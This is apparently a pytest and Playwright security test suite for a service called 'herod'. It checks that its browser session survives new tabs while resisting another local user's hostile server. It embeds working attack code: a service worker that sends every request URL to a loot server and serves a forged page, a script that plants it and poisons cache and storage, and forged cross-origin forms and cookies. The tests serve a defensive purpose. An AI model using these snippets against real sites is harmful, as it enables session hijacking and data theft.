"""A session in further tabs, and what another local user can do about it, in real Chromium.

The hostile server has herod's own port until herod starts: its pages and its service worker have herod's origin. Later
it has another port of the host, where browsers send it herod's cookie and let it set cookies.
"""

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from support.chromium import ADMIN, PASSWORD, Person, ask, chromium, person
from support.real_daemon import Daemon, free_port, running

# It looks on at what the browser asks for, and shows a page of its own in place of the front page.
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  fetch("LOOT/saw?" + encodeURIComponent(event.request.url), {mode: "no-cors"});
  if (new URL(event.request.url).pathname === "/")
    event.respondWith(new Response("<h1>A forgery</h1>", {headers: {"Content-Type": "text/html"}}));
});
"""
PLANT = """async () => {
  await navigator.serviceWorker.register("/worker.js", {scope: "/"});
  await navigator.serviceWorker.ready;
  for (const name of ["/worker.js", "/second.js"]) await fetch(name);  // into the browser's cache
  localStorage.setItem("herod-resume", "planted");
}"""
WORKERS = "navigator.serviceWorker.getRegistrations().then((found) => found.length)"
# The page that stayed open sends the proof in a window of its own, which it would like to look into.
OPENED = """() => {
  window.mine = window.open("about:blank", "mine");
  const form = mine.document.createElement("form"), input = mine.document.createElement("input");
  [form.method, form.action] = ["post", "/ui/resume"];
  [input.name, input.value] = ["proof", localStorage.getItem("herod-resume")];
  form.append(input); mine.document.body.append(form); form.submit();
}"""
LOOK = """() => {
  try { return mine.location.href + mine.document.body.innerText; } catch { return "refused"; }
}"""


@dataclass
class Hostile:
    """A server of another user, and what it was sent."""

    port: int
    pages: dict[str, tuple[str, str, dict[str, str]]] = field(default_factory=dict)
    loot: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def hostile_server(port: int = 0) -> Iterator[Hostile]:
    """A hostile server, on the given port of 127.0.0.1."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.loot.append(f"{self.path} {self.headers}")
            kind, body, headers = made.pages.get(urlsplit(self.path).path, ("text/html", "", {}))
            self.send_response(200)
            for name, value in {"Content-Type": kind, "Content-Length": str(len(body)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_: object) -> None:
            """Do not log."""

    with ThreadingHTTPServer(("127.0.0.1", port), Answer) as server:
        made = Hostile(server.server_address[1])
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield made
        finally:
            server.shutdown()
            thread.join()


@contextmanager
def daemon_on(port: int, folder: Path) -> Iterator[Daemon]:
    """A daemon with an admin, on a port of 127.0.0.1."""
    with running(folder, binds=(f"unix:{folder}/herod.sock,mode=0666", f"127.0.0.1:{port}")) as started:
        started.port = port
        ask(started, ("users.add", {"email": ADMIN, "name": "Ada Lovelace", "scope": "admin", "password": PASSWORD}))
        yield started


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium; without it these tests are skipped."""
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[Daemon]:
    """A daemon with an admin."""
    with daemon_on(free_port(), tmp_path_factory.mktemp("daemon")) as started:
        yield started


@pytest.fixture
def ada(browser: Browser, daemon: Daemon) -> Iterator[Person]:
    """The admin, signed in."""
    with person(browser, daemon) as sitting:
        sitting.sign_in()
        kept_proof(sitting.page)
        yield sitting


def kept_proof(page: Page) -> str:
    """The proof in the origin's storage, once the page's script has kept it."""
    end = time.monotonic() + 60
    while not (proof := page.evaluate("localStorage.getItem('herod-resume')")):
        assert time.monotonic() < end, "no proof is kept"
        page.wait_for_timeout(50)
    return str(proof)


def tab(ada: Person, address: str) -> Page:
    """Another tab, in which somebody opens an address."""
    page = ada.context.new_page()
    page.goto(address)
    return page


def wait_for(page: Page, heading: str) -> None:
    """Wait for a page with this first heading."""
    page.get_by_role("heading", level=1, name=heading, exact=True).wait_for()


def test_new_tabs(ada: Person, daemon: Daemon) -> None:
    """The front page, a pasted address and a bookmark with an old ticket go on where they wanted, and nobody asks."""
    for path, heading in (("/", "Overview"), ("/ui", "Overview"), ("/ui/keys?kind=user", "Keys")):
        wait_for(tab(ada, daemon.url + path), heading)
    page = tab(ada, f"{daemon.url}/ui/sessions?ticket=of-yesterday")
    wait_for(page, "Sessions")
    assert page.get_by_text("this browser").count() == 1
    assert len(ask(daemon, ("audit.list", {"operation": "session.sign_in"}))[0]["items"]) >= 1
    page.go_back()
    assert page.url in ("about:blank", f"{daemon.url}/")


def test_a_link_of_another_site(ada: Person, daemon: Daemon) -> None:
    """It leads to the page that it names, in the browser's own session."""
    with hostile_server() as other:
        page = tab(ada, f"http://localhost:{other.port}/")
        page.evaluate("url => { location = url }", f"{daemon.url}/ui/keys")
        wait_for(page, "Keys")


def test_without_script_one_signs_in(browser: Browser, daemon: Daemon) -> None:
    """A browser without script has kept no proof, and lands on the page after signing in."""
    with person(browser, daemon, java_script_enabled=False) as plain:
        plain.sign_in()
        page = tab(plain, f"{daemon.url}/ui/keys")
        wait_for(page, "Sign in")
        page.get_by_label("Email").fill(ADMIN)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in", exact=True).first.click()
        wait_for(page, "Keys")


def test_signing_out_ends_it_for_all_tabs(ada: Person, daemon: Daemon) -> None:
    """After signing out nothing is kept, and a new tab asks to sign in."""
    ada.button("Sign out").click()
    ada.page.get_by_text("You are signed out").wait_for()
    assert ada.page.evaluate("Object.keys(localStorage)") == []
    wait_for(tab(ada, daemon.url), "Sign in")


def test_signing_out_elsewhere(ada: Person, daemon: Daemon) -> None:
    """A session that was ended elsewhere leads to the sign-in page, which resumes nothing and asks once."""
    assert len(kept_proof(ada.page)) == 43
    ask(daemon, ("session.end_all", {"email": ADMIN}))
    page = tab(ada, daemon.url)
    wait_for(page, "Sign in")
    assert page.evaluate("localStorage.getItem('herod-resume')") is None


def test_the_theme_outlives_signing_in_and_out(ada: Person, daemon: Daemon) -> None:
    """What a person chose stays, though a sign-in clears the origin's storage."""
    ada.button("Theme").click()
    assert ada.page.locator("html[data-theme=light]").count()
    ada.button("Sign out").click()
    ada.sign_in()
    assert ada.page.locator("html[data-theme=light]").count()


def test_another_port(ada: Person, daemon: Daemon) -> None:
    """Its forms to `/ui/resume` are refused, its cookie over ours signs nobody else in, and it gets no ticket."""
    with hostile_server() as other:
        proof = kept_proof(ada.page)  # as if it had it
        for target in ("", "mine"):
            form = f"<form id=f method=post action='{daemon.url}/ui/resume' target='{target}'>"
            other.pages["/form"] = ("text/html", f"{form}<input name=proof value={proof}></form>", {})
            page = tab(ada, f"{other.url}/form")
            if target:
                with ada.context.expect_page() as opened:
                    page.evaluate("() => { window.mine = window.open('about:blank', 'mine'); f.submit(); }")
                opened.value.wait_for_url(f"{daemon.url}/ui/resume")
                assert "ticket" not in page.evaluate(LOOK)
            else:
                page.evaluate("f.submit()")
                page.wait_for_url(f"{daemon.url}/ui/resume")
                assert "may not call herod" in page.content()
        script = f"fetch('{daemon.url}/ui/resume', {{method: 'POST', credentials: 'include', body: 'proof={proof}', "
        script += "headers: {'Content-Type': 'application/x-www-form-urlencoded'}}).then(() => 'read', () => 'refused')"
        assert tab(ada, f"{other.url}/").evaluate(script) == "refused"
        assert "ticket" not in "".join(other.loot)
    ada.page.reload()
    ada.heading("Overview")


def test_a_cookie_over_ours(ada: Person, browser: Browser, daemon: Daemon) -> None:
    """With another session's cookie, the victim's proof leads into nobody's session; with ours first, into hers."""
    with person(browser, daemon) as eve:
        eve.sign_in()
        (cookie,) = eve.context.cookies()
    (own,) = ada.context.cookies()
    ada.context.add_cookies([{**own, "value": cookie["value"]}])  # type: ignore[typeddict-item]  # as it came
    page = tab(ada, daemon.url)
    wait_for(page, "Sign in")
    ada.forgive("Clear-Site-Data")


def test_a_frame(ada: Person, daemon: Daemon) -> None:
    """Herod's pages are not shown in a frame, and one of its own origin could not resume there either."""
    with hostile_server() as other:
        other.pages["/frame"] = ("text/html", f"<iframe src='{daemon.url}/'></iframe>", {})
        page = tab(ada, f"{other.url}/frame")
        page.wait_for_load_state("networkidle")
        assert page.frames[1].url.startswith("chrome-error:")


@contextmanager
def taken_port(
    browser: Browser, opener_policy: str, folder: Path
) -> Iterator[tuple[Page, BrowserContext, Daemon, Hostile]]:
    """A browser that was at herod's port while another user had it: the page that is still open; herod has it now."""
    with hostile_server() as other:
        context = browser.new_context()
        with hostile_server() as squatter:
            worker = WORKER.replace("LOOT", other.url)
            kept = {"Cache-Control": "max-age=1000000"}
            squatter.pages = {
                "/": ("text/html", "<h1>Not herod</h1>", {"Cross-Origin-Opener-Policy": opener_policy}),
                "/worker.js": ("text/javascript", worker, kept),
                "/second.js": ("text/javascript", worker + "// 2", kept),
            }
            page = context.new_page()
            page.goto(squatter.url)
            page.evaluate(PLANT)
            assert page.evaluate(WORKERS) == 1
        with daemon_on(squatter.port, folder) as daemon:
            yield page, context, daemon, other
        context.close()


def until_the_worker_ended(page: Page) -> None:
    """Wait until the browser has asked herod for the worker's script again, whose answer ends it."""
    end = time.monotonic() + 60
    while page.evaluate(WORKERS):
        assert time.monotonic() < end, "the service worker goes on"
        page.wait_for_timeout(100)


def sign_in(page: Page) -> None:
    """Sign in on the page that is shown."""
    page.get_by_label("Email").fill(ADMIN)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).first.click()
    wait_for(page, "Overview")


def test_a_service_worker_of_before(browser: Browser, tmp_path: Path) -> None:
    """It answers for herod at most once, sees no ticket, and cannot be planted again from the browser's cache."""
    with taken_port(browser, "same-origin", tmp_path) as (left_open, context, daemon, other):
        page = context.new_page()
        page.goto(daemon.url)
        until_the_worker_ended(left_open)
        page.goto(daemon.url)
        wait_for(page, "Sign in")
        sign_in(page)
        for script in ("/worker.js", "/second.js"):
            planted = left_open.evaluate(
                "(script) => navigator.serviceWorker.register(script, {scope: '/', updateViaCache: 'all'})"
                ".then(() => 'planted', () => 'refused')",
                script,
            )
            assert planted == "refused"
        page.reload()
        wait_for(page, "Overview")
        assert not [line for line in other.loot if "ticket" in line]


@pytest.mark.parametrize("opener_policy", ["same-origin", "same-origin-allow-popups", "unsafe-none"])
def test_a_page_that_stayed_open(browser: Browser, tmp_path: Path, opener_policy: str) -> None:
    """A page of herod's origin from before its start reads the proof, and gets neither a ticket nor a page with it."""
    with taken_port(browser, opener_policy, tmp_path) as (left_open, context, daemon, other):
        page = context.new_page()
        page.goto(daemon.url)
        until_the_worker_ended(left_open)
        page.goto(daemon.url)
        sign_in(page)
        proof = kept_proof(left_open)  # it shares our storage
        assert len(proof) == 43
        got: Any = left_open.evaluate(
            "(proof) => fetch('/ui/resume', {method: 'POST', body: new URLSearchParams({proof})})"
            ".then(async (answer) => answer.url + await answer.text())",
            proof,
        )
        assert "ticket" not in got
        assert "Ada" not in got
        for opening in (OPENED, "() => { window.mine = window.open('/', 'mine'); }"):
            with context.expect_page() as opened:
                left_open.evaluate(opening)
            wait_for(opened.value, "Overview")  # the window goes on with the session …
            assert left_open.evaluate(LOOK) == "refused"  # … and is out of reach
            opened.value.close()
        # The other port gets the cookie's half. From there the proof opens nothing without a window of our own page.
        context.new_page().goto(other.url)
        half = next(one["value"] for one in context.cookies() if one["name"] == "herod_session")
        assert half in "".join(other.loot)
        data = ("-d", f"proof={proof}", "-H", f"Cookie: herod_session={half}")
        for headers in ((), ("-H", f"Origin: {daemon.url}")):
            status, body, answer = daemon.curl("/ui/resume", *data, *headers, tcp=True)
            assert "location" not in answer, status
            assert b"ticket=" not in (body if isinstance(body, bytes) else json.dumps(body).encode())
